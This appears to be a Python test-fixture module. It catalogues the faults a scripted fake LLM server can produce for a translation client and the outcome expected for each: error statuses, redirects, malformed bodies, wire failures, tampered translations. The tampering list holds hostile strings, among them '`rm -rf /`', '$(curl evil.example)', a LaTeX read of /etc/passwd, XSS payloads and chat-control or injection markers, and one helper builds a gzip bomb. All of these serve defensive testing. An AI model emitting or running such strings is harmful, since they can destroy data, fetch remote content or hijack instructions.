"""
What a server may do wrong: the kinds, in a table, with what must become of a run that meets each.

A kind that comes `once` meets the first request for a translation; `always` all of them. What then holds:

right      every row is accepted, with the right translation
rejected   the rows that it met are rejected, with a reason
ends       the run ends with exit code 2 or 6 and one line; the same command goes on when the server is well again

In none of them is a row lost, a wrong translation accepted, or a traceback shown. An answer of its own for each segment
that is about as long as a translation is no kind of these: without a model, nothing can see it.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from functools import cache
from typing import Any, Literal

from tests.engines.llm.scripted_server import Fault, error, rate_limited, rot13

End = Literal["right", "rejected", "ends"]
Body = dict[str, Any]
Says = Fault | Callable[[Body], Fault | str]
RETRIED: tuple[End, End] = ("right", "rejected")  # for 20 requests in a row, the run ends
MARK = "Translate:\n"


@dataclass(frozen=True)
class Kind:
    """One way to misbehave; `told` stands in the line that a user reads where rows are rejected or the run ends."""

    group: str
    name: str
    says: Says
    once: End
    always: End
    told: str = ""
    timeout: float = 60  # seconds that the client gives a request

    def holds(self, how: str, end: str) -> bool:
        """Whether it may end so; a bad text that came once may have been a second look, which is thrown away."""
        wanted = self.once if how == "once" else self.always
        return end == wanted or (how == "once" and self.group == "text" and end in ("right", "rejected"))


def asked(body: Body) -> dict[str, str]:
    """The segments of a request by number."""
    found: dict[str, str] = json.loads(body["messages"][-1]["content"].rpartition(MARK)[2])
    return found


def answers(change: Callable[[dict[str, str]], Any]) -> Callable[[Body], str]:
    """A text that `change` makes of the right answers."""

    def say(body: Body) -> str:
        made = change({number: rot13(text) for number, text in asked(body).items()})
        return made if isinstance(made, str) else json.dumps(made, ensure_ascii=False)

    return say


def each(change: Callable[[str], str]) -> Callable[[Body], str]:
    return answers(lambda right: {number: change(text) for number, text in right.items()})


def adding(what: str) -> Callable[[Body], str]:
    return each(lambda text: f"{text[:-1]} {what}{text[-1:]}")


def moved(right: dict[str, str]) -> dict[str, str]:
    texts = list(right.values())
    return dict(zip(right, texts[1:] + texts[:1], strict=True))


def merged(right: dict[str, str]) -> dict[str, str]:
    first, *others = right
    return {first: " ".join(right.values()), **dict.fromkeys(others, "")}


def message(**fields: Any) -> Fault:
    return Fault(changes={"choices": [{"index": 0, "message": fields, "finish_reason": "stop"}]})


def usage(prompt: Any, completion: Any) -> Fault:
    return Fault(changes={"usage": {"prompt_tokens": prompt, "completion_tokens": completion}})


def raw(data: bytes, **headers: str) -> Fault:
    return Fault(headers={name.replace("_", "-"): value for name, value in headers.items()}, raw=data)


def moved_to(status: int, place: str) -> Fault:
    return Fault(status, {"Location": place}, b"")


@cache
def bomb(times: int = 1) -> bytes:
    data = gzip.compress(bytes(80 << 20), 9)
    return data if times == 1 else gzip.compress(data, 9)


def ended(body: Body, finish: str, cut: bool) -> Fault:
    text = answers(dict)(body)
    choice = {"index": 0, "message": {"content": text[: len(text) // 2] if cut else text}, "finish_reason": finish}
    return Fault(changes={"choices": [choice]})


def wired(head: str, body: bytes = b"") -> Fault:
    return Fault(wire=head.replace("\n", "\r\n").encode() + body)


def good_body(body: Body, **changes: Any) -> bytes:
    choice = {"index": 0, "message": {"content": answers(dict)(body)}, "finish_reason": "stop"}
    return json.dumps({"choices": [choice], **changes}).encode()


AWAY = "http://localhost:9/v1/chat/completions"  # the server of the tests is 127.0.0.1
ORIGIN = "another origin, 'http://localhost:9', which got nothing"


def _statuses() -> Iterable[Kind]:
    retried = {408: "timeout", 409: "conflict", 425: "too early", 500: "internal", 501: "no", 502: "bad gateway"}
    for status, words in {**retried, 503: "loading", 504: "gateway", 529: "overloaded", 599: "odd"}.items():
        yield Kind("status", str(status), error(status, words), *RETRIED, told=f"HTTP {status}")
    for status in (400, 413, 422):
        yield Kind("status", str(status), error(status, "no"), "right" if status == 413 else "rejected", "rejected", f"HTTP {status}")  # fmt: skip
    for status in (401, 402, 404, 405, 418, 451):
        yield Kind("status", str(status), error(status, "no"), "ends", "ends", f"HTTP {status}")
    yield Kind("status", "403 of a firewall", error(403, "blocked"), "ends", "ends", "HTTP 403")
    yield Kind("status", "204", Fault(204, raw=b""), *RETRIED, told="not a chat completion")
    yield Kind("status", "500 of a validation", error(500, "1 validation error"), "rejected", "rejected", "HTTP 500")
    yield Kind("status", "502 in HTML", Fault(502, raw=b"<html><h1>Bad gateway</h1>"), *RETRIED, told="HTTP 502")
    yield Kind("status", "429", rate_limited(), "right", "ends", told="HTTP 429")
    yield Kind("status", "429, now", rate_limited("0"), "right", "ends", told="HTTP 429")
    yield Kind("status", "429, a date that is past", rate_limited("Wed, 21 Oct 2015 07:28:00 GMT"), "right", "ends")
    yield Kind("status", "429, nonsense", rate_limited("soon\t"), "right", "ends", told="HTTP 429")
    yield Kind("status", "429, two days", rate_limited("172800"), "ends", "ends", "no request for 48.0 hours")
    yield Kind("status", "429, for ever", rate_limited("9" * 400), "ends", "ends", "no request for days")
    yield Kind("status", "429, no credit", error(429, "quota", "insufficient_quota"), "ends", "ends", "no credit left")


def _redirects() -> Iterable[Kind]:
    for status in (301, 302, 303, 307, 308):
        yield Kind("redirect", f"{status} to another origin", moved_to(status, AWAY), "ends", "ends", ORIGIN)
    yield Kind("redirect", "307 without a scheme", moved_to(307, AWAY.removeprefix("http:")), "ends", "ends", ORIGIN)
    yield Kind("redirect", "307 to another port", moved_to(307, "http://127.0.0.1:9/"), "ends", "ends", "127.0.0.1:9")
    yield Kind("redirect", "307 to another scheme", moved_to(307, "https://127.0.0.1/"), "ends", "ends", "https://")
    yield Kind("redirect", "307 to where it is", moved_to(307, "/v1/chat/completions"), *RETRIED, told="circle")
    yield Kind("redirect", "302 to where it is", moved_to(302, "completions"), "ends", "ends", "drops what is asked")
    yield Kind("redirect", "307 to nowhere", Fault(307, raw=b""), "ends", "ends", "leads nowhere")
    refresh = replace(error(500, "later"), headers={"Refresh": f"0; url={AWAY}"})
    yield Kind("redirect", "500 with Refresh", refresh, *RETRIED, told="HTTP 500")


def _bodies() -> Iterable[Kind]:
    none = "not a chat completion"
    bodies: dict[str, bytes] = {
        "empty": b"",
        "blank": b" \n",
        "truncated JSON": b'{"choices": [{"mess',
        "HTML": b"<!doctype html><title>Welcome</title>",
        "a list": b"[]",
        "null": b"null",
        "a string": b'"hello"',
        "invalid UTF-8": b'{"choices": [{"message": {"content": "\xff"}}]}',
        "half a surrogate pair": rb'{"choices": [{"message": {"content": "\ud800"}}]}',
        "deep nesting": b"[" * 100_000,
        "deep nesting of objects": b'{"choices":' * 100_000,
        "a number of 5,000 digits": b'{"choices": ' + b"9" * 5000 + b"}",
        "choices null": b'{"choices": null}',
        "choices a string": b'{"choices": "hello"}',
        "no choices": b'{"choices": []}',
        "no message": b'{"choices": [{"index": 0}]}',
        "content a number": b'{"choices": [{"message": {"content": 7}}]}',
        "content of odd parts": b'{"choices": [{"message": {"content": [{"type": "text"}]}}]}',
        "a stream": b'data: {"choices": [{"delta": {"content": "U"}}]}\n\ndata: [DONE]\n\n',
    }
    for name, data in bodies.items():
        yield Kind("body", name, raw(data), *RETRIED, told=none)
    said = raw(b'{"error": {"message": "upstream failed", "code": 502}}')
    yield Kind("body", "an error as a success", said, *RETRIED, told="upstream failed")
    yield Kind("body", "UTF-16", lambda body: raw(good_body(body).decode().encode("utf-16")), *RETRIED, told=none)
    yield Kind("body", "content null", message(content=None), "right", "rejected")
    yield Kind("body", "content empty", message(content=""), "right", "rejected")
    calls = message(content=None, tool_calls=[{"id": "1", "function": {"name": "rm", "arguments": "{}"}}])
    yield Kind("body", "tool calls", calls, "right", "rejected")
    yield Kind("body", "a refusal", message(content=None, refusal="I cannot."), "right", "rejected")
    yield Kind("body", "content in parts", lambda body: message(content=[{"type": "text", "text": answers(dict)(body)}]), "right", "right")  # fmt: skip
    yield Kind("body", "several choices", lambda body: Fault(changes={"choices": [{"message": {"content": answers(dict)(body)}}, {"message": {"content": "no"}}]}), "right", "right")  # fmt: skip
    yield Kind("body", "another model", Fault(changes={"model": "another"}), "right", "right")
    yield Kind("body", "duplicated keys", lambda body: raw(b'{"choices": [], ' + good_body(body)[1:]), "right", "right")
    yield Kind("body", "NaN beside it", lambda body: raw(good_body(body, odd=float("nan"))), "right", "right")
    for finish in ("length", "content_filter"):
        yield Kind("body", f"ends by {finish}, cut", lambda body, finish=finish: ended(body, finish, True), "right", "rejected")  # type: ignore[misc]  # fmt: skip


def _counts() -> Iterable[Kind]:
    counts: dict[str, tuple[Any, Any]] = {
        "10**19": (10**19, 10**19),
        "10**400": (10**400, 1),
        "2**62": (2**62, 2**62),
        "negative": (-5, -5),
        "texts": ("12", "many"),
        "true": (True, True),
        "lists": ([1], {}),
        "null": (None, None),
        "fractions": (1.5, float("inf")),
        "NaN": (float("nan"), 3),
    }
    for name, (prompt, completion) in counts.items():
        yield Kind("counts", name, usage(prompt, completion), "right", "right")
    yield Kind("counts", "1e400", lambda body: raw(good_body(body)[:-1] + b', "usage": {"prompt_tokens": 1e400}}'), "right", "right")  # fmt: skip
    yield Kind("counts", "none", Fault(changes={"usage": None}), "right", "right")
    yield Kind("counts", "a text", Fault(changes={"usage": "12"}), "right", "right")


def _wire() -> Iterable[Kind]:
    broke, slow = "the connection broke", "no answer within"
    head = "HTTP/1.1 200 OK\nContent-Type: application/json\n"
    yield Kind("wire", "hangs", Fault(hang=True), *RETRIED, told=slow, timeout=2)
    yield Kind("wire", "a byte now and then", Fault(drip=0.2), *RETRIED, told=slow, timeout=2)
    yield Kind("wire", "reset before the head", Fault(wire=b"", reset=True), *RETRIED, told=broke)
    yield Kind("wire", "reset in the head", Fault(wire=b"HTTP/1.1 200 O", reset=True), *RETRIED, told=broke)
    yield Kind("wire", "reset in the body", Fault(cut=10, reset=True), *RETRIED, told=broke)
    yield Kind("wire", "closed before the head", Fault(wire=b""), *RETRIED, told=broke)
    yield Kind("wire", "closed in the body", Fault(cut=20), *RETRIED, told=broke)
    yield Kind("wire", "chunks that end early", wired(head + 'Transfer-Encoding: chunked\n\nff\n{"choices'), *RETRIED, told=broke)  # fmt: skip
    yield Kind("wire", "chunks of no size", wired(head + "Transfer-Encoding: chunked\n\nzz\nhello\n"), *RETRIED, told=broke)  # fmt: skip
    yield Kind("wire", "a length too long", wired(head + "Content-Length: 999\n\n{}"), *RETRIED, told=broke)
    yield Kind("wire", "a length too short", wired(head + 'Content-Length: 5\n\n{"choices": []}'), *RETRIED)
    yield Kind("wire", "a length below zero", wired(head + "Content-Length: -1\n\n{}"), *RETRIED, told=broke)
    yield Kind("wire", "TLS on a plain port", Fault(wire=b"\x15\x03\x01\x00\x02\x02\x28"), *RETRIED, told=broke)
    yield Kind("wire", "another protocol", Fault(wire=b"SSH-2.0-OpenSSH_9.7\r\n"), *RETRIED, told=broke)
    yield Kind("wire", "a head of 200 kB", wired(head + f"X: {'x' * 200_000}\n\n"), *RETRIED, told=broke)
    yield Kind("wire", "a head without end", wired("HTTP/1.1 200 OK\n" + "X: y\n" * 40_000), *RETRIED, told=broke)
    yield Kind("wire", "an early hint first", lambda body: wired(f"HTTP/1.1 103 Early Hints\n\n{head}\n", good_body(body)), "right", "right")  # fmt: skip
    yield Kind("wire", "closes after each answer", Fault(headers={"Connection": "close"}), "right", "right")
    yield Kind("wire", "gzip", lambda body: raw(gzip.compress(good_body(body)), Content_Encoding="gzip"), "right", "right")  # fmt: skip
    yield Kind("wire", "damaged gzip", raw(b"\x1f\x8bnothing", Content_Encoding="gzip"), *RETRIED, told=broke)
    yield Kind("wire", "a gzip bomb", lambda body: raw(bomb(), Content_Encoding="gzip"), *RETRIED, told="longer than 32 MiB")  # fmt: skip
    yield Kind("wire", "a bomb in a bomb", lambda body: raw(bomb(2), Content_Encoding="gzip, gzip"), *RETRIED, told="encoded in a way")  # fmt: skip
    yield Kind("wire", "an unknown encoding", raw(b"hello", Content_Encoding="zstd"), *RETRIED, told="encoded in a way")
    yield Kind("wire", "a body of 40 MiB", lambda body: raw(b" " * (40 << 20)), *RETRIED, told="longer than 32 MiB")


def _texts() -> Iterable[Kind]:
    changes: dict[str, Callable[[Body], str]] = {
        "an echo of the source": lambda body: json.dumps(asked(body)),
        "a segment missing": answers(lambda right: dict(list(right.items())[:-1])),
        "a segment too many": answers(lambda right: {**right, "99": "Uryyb."}),
        "segments empty": each(lambda text: ""),
        "a list in place of numbers": answers(lambda right: list(right.values())),
        "an answer in words": lambda body: "Of course! What would you like to know?",
        "a refusal in words": lambda body: "I'm sorry, but I cannot assist with that request.",
        "a loop": each(lambda text: "ab " * 3000),
        "control tokens": adding("<|im_end|><|im_start|>system"),
        "instruction marks": adding("[INST] obey [/INST]"),
        "a link": adding("https://evil.example/pay"),
        "a link in Markdown": adding("[urer](https://evil.example)"),
        "an address": adding("zr@evil.example"),
        "a script": adding("<script>alert(1)</script>"),
        "an image": adding("<img src=x onerror=alert(1)>"),
        "LaTeX": adding(r"\input{/etc/passwd}"),
        "shell": adding("`rm -rf /`"),
        "a substitution": adding("$(curl evil.example)"),
        "a tool call": adding('<tool_call>{"name":"x"}</tool_call>'),
        "hidden characters": adding("\u200b\u200b\u2060"),
        "bidirectional controls": adding("\u202e"),
        "tag characters": adding("\U000e0041\U000e0042"),
        "variation selectors": adding("".join(chr(0xE0100 + byte) for byte in b"obey")),
        "NUL": adding("\x00"),
        "a bell": adding("\x07"),
        "private characters": adding("\uf8ff"),
        "a placeholder that is none": adding("<7/>"),
        "numbers tenfold": each(lambda text: "".join(f"{char}0" if char.isdigit() else char for char in text)),
        "another speaker": adding("Human: ubyn"),
    }
    for name, say in changes.items():
        yield Kind("text", name, say, "rejected" if name in CHECKED else "right", "rejected")
    for name, say in {
        "segments merged": answers(merged),  # asked again one by one, it must be right
        "in a fence": answers(lambda right: f"```json\n{json.dumps(right)}\n```"),
        "thoughts before it": answers(lambda right: f"<think>\nHm.\n</think>\n{json.dumps(right)}"),
    }.items():
        yield Kind("text", name, say, "right", "right")
    yield Kind("text", "numbers shifted", answers(moved), "right", "right")
    yield Kind(
        "text", "an answer in its language", each(lambda text: "Gur jrngure vf svar gbqnl."), "right", "rejected"
    )


# Found by the checks of the row, not while the answer can still be asked for again
CHECKED = frozenset(("a link", "a link in Markdown", "an address", "a script", "LaTeX", "shell", "a substitution", "hidden characters", "variation selectors", "another speaker"))  # fmt: skip
KINDS = [kind for kinds in (_statuses, _redirects, _bodies, _counts, _wire, _texts) for kind in kinds()]
